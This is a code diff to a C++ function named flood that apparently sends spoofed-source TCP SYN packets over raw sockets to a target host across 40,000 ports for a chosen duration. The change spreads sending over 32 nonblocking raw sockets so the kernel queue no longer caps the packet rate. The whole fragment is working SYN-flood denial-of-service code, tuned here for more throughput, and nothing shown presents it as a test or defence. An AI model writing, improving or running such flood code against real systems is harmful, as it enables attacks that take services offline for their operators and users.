@@ -212,8 +212,13 @@ Syn make_syn(const in_addr& source, const sockaddr_in& end, std::uint16_t source
 int flood(const char* source, const sockaddr_in& end, double seconds) {
   in_addr from{};
   if (inet_pton(AF_INET, source, &from) != 1) fail(source);
-  const FileDescriptor socket(::socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW));
-  if (!socket.is_open()) fail("raw socket");
+  // A socket waits once some 300 of its packets are queued: enough of them fill the queue.
+  constexpr std::size_t kSockets = 32;
+  std::vector<FileDescriptor> sockets;
+  for (std::size_t i = 0; i < kSockets; ++i) {
+    sockets.emplace_back(::socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC | SOCK_NONBLOCK, IPPROTO_RAW));
+    if (!sockets.back().is_open()) fail("raw socket");
+  }
   constexpr std::uint16_t kFirstPort = 10'000, kPorts = 40'000;
   std::vector<Syn> syns;
   for (std::uint16_t i = 0; i < kPorts; ++i) {
@@ -223,9 +228,9 @@ int flood(const char* source, const sockaddr_in& end, double seconds) {
   std::uint64_t sent = 0;
   for (std::size_t i = 0; i % 64 != 0 || microseconds_since(began) < seconds * 1e6; ++i) {
     const Syn& syn = syns[i % syns.size()];
-    // The queue is full at times: then the kernel drops it, and says EPERM.
-    if (sendto(socket.number(), &syn, sizeof syn, 0, reinterpret_cast<const sockaddr*>(&end),
-               sizeof end) >= 0) {
+    // The queue is full at times: then the kernel drops it, and says so.
+    if (sendto(sockets[i % kSockets].number(), &syn, sizeof syn, 0,
+               reinterpret_cast<const sockaddr*>(&end), sizeof end) >= 0) {
       ++sent;
     }
   }
